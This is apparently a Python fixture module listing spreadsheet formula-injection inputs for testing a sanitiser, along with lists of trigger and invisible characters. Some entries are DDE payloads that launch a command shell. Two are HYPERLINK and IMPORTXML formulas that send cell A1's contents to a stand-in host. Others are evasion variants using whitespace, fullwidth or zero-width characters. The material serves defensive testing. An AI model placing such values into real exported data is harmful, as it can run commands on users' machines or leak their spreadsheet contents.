"""Keys that some spreadsheet would run: what OWASP lists, as they are and inside of a text."""

from __future__ import annotations

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"more")',
    '=IMPORTXML(CONCAT("http://example.invalid?x=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=MSEXCEL|"\\..\\..\\Windows\\System32\\cmd.exe /c calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@A1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''+1",
    "'tis",
    '"=1+1"',
    "F1;=1+1",
    "F1,=1+1",
    'F1";=1+1;"',
    "F1\t@A1",
    "F1|-1",
    "F1', '＝1",
    "F1\n=1+1",
    "DDE",
    "{=1+1}",
    "http://example.invalid/=1",
    "mailto:a@example.invalid",
    "#NAME?",
    "TRUE",
    "1e5",
    "007",
]
ESCAPED = ["_x000D_=1+1", "F1_x0009_"]
"""What a workbook writes for characters that XML has not got, as a text of its own."""
BEGINS = tuple("=+-@＝＋－＠")
UNSEEN = " \t\r\n\0\u00a0\u3000\u200b\ufeff"
"""What a spreadsheet passes over before a formula, or a person does not see."""
